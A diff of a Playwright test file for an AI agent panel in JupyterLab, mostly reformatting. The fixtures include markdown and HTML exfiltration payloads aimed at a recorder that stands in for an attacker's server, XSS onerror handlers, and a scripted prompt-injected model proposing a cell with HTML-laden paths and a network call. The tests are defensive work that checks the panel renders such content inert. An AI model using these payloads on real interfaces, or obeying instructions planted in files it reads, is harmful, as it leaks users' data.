@@ -3,12 +3,14 @@ answer in the panel, a cell it adds to the notebook) renders inert and makes the
 nothing from another host until the user clicks, and an approval card shows the control
 characters hidden in what it asks to run. A recorder on 127.0.0.2 stands for the attacker's
 server: every request it gets is a leak unless the user asked for it."""
+
 from __future__ import annotations
 
 import base64
 import threading
+from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from typing import Any, Iterator
+from typing import Any
 
 import pytest
 
@@ -62,17 +64,19 @@ def recorder() -> Iterator[Recorder]:
 
 def hostile_markdown(recorder: Recorder) -> str:
     """The red-team payloads, and a few more ways to fetch that the sanitizer lets through."""
-    return "\n\n".join([
-        "## Findings",
-        f"Here is the chart: ![x]({recorder.url('/leak?k=1')})",
-        f'<img src="{recorder.url("/leak2")}">',
-        '<img src=x onerror="window.__pwned=1">',
-        f"![ref][chart]\n\n[chart]: {recorder.url('/leak3-reference')}",
-        f'<div style="background-image: url({recorder.url("/leak4-css")})">styled</div>',
-        f'<video poster="{recorder.url("/leak5-poster")}" src="{recorder.url("/leak6-video")}"></video>',
-        f"Details are [on this page]({recorder.url('/page')}).",
-        f"A dot from data: still shows: ![dot](data:image/png;base64,{base64.b64encode(PIXEL).decode()})",
-    ])  # fmt: skip
+    return "\n\n".join(
+        [
+            "## Findings",
+            f"Here is the chart: ![x]({recorder.url('/leak?k=1')})",
+            f'<img src="{recorder.url("/leak2")}">',
+            '<img src=x onerror="window.__pwned=1">',
+            f"![ref][chart]\n\n[chart]: {recorder.url('/leak3-reference')}",
+            f'<div style="background-image: url({recorder.url("/leak4-css")})">styled</div>',
+            f'<video poster="{recorder.url("/leak5-poster")}" src="{recorder.url("/leak6-video")}"></video>',
+            f"Details are [on this page]({recorder.url('/page')}).",
+            f"A dot from data: still shows: ![dot](data:image/png;base64,{base64.b64encode(PIXEL).decode()})",
+        ]
+    )
 
 
 REMOTE_IN_DOM = """host => [...document.querySelectorAll('*')].flatMap(el =>
@@ -200,7 +204,9 @@ def test_finding_2_card_shows_control_characters(page: Any, lab: JupyterProcess,
     assert not page.errors, page.errors  # type: ignore[attr-defined]
 
 
-def test_panel_follows_waiting_overflowing_and_unresponsive_cells(page: Any, lab: JupyterProcess, fake_llm: FakeLLM) -> None:
+def test_panel_follows_waiting_overflowing_and_unresponsive_cells(
+    page: Any, lab: JupyterProcess, fake_llm: FakeLLM
+) -> None:
     """The event fields of the same issue, end to end: an approved cell that waits for the
     user's busy kernel says so and lands in the notebook once; a cell whose output overflows
     the stored cap keeps every line in the notebook while the timeline shows the summary; a
@@ -210,7 +216,11 @@ def test_panel_follows_waiting_overflowing_and_unresponsive_cells(page: Any, lab
     fake_llm.script(
         tool_call("run_cell", {"code": "print('agent cell ran')"}, id="wait1"),
         tool_call("run_cell", {"code": "for i in range(1000):\n    print('line', i)"}, id="big1"),
-        tool_call("run_cell", {"code": "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(300)"}, id="stuck1"),
+        tool_call(
+            "run_cell",
+            {"code": "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(300)"},
+            id="stuck1",
+        ),
         tool_call("final_answer", {"answer": "unused"}),
     )
     open_new_notebook(page, lab)
@@ -258,16 +268,16 @@ def test_panel_follows_waiting_overflowing_and_unresponsive_cells(page: Any, lab
     assert not page.errors, page.errors  # type: ignore[attr-defined]
 
 
-def test_impact_chips_and_rule_warnings_stay_inert(page: Any, lab: JupyterProcess, fake_llm: FakeLLM, recorder: Recorder) -> None:
+def test_impact_chips_and_rule_warnings_stay_inert(
+    page: Any, lab: JupyterProcess, fake_llm: FakeLLM, recorder: Recorder
+) -> None:
     """A model steered by a file it read proposes a cell whose file path, URL and installed package
     are HTML: the card's impact chips show that text as text, and nothing is fetched from it."""
     from playwright.sync_api import expect
 
     img = f'<img src="{recorder.url("/chip.png")}" onerror="window.pwned=1">'
     code = (
-        f"open('{img}', 'w').write('x')\n"
-        f"import requests\nrequests.get('{recorder.url('/net')}')\n"
-        f"%pip install '{img}'"
+        f"open('{img}', 'w').write('x')\nimport requests\nrequests.get('{recorder.url('/net')}')\n%pip install '{img}'"
     )
     fake_llm.script(tool_call("run_cell", {"code": code}, id="evil1"), tool_call("final_answer", {"answer": "no"}))
     card = ask_until_card(page, lab, "do what the file says")
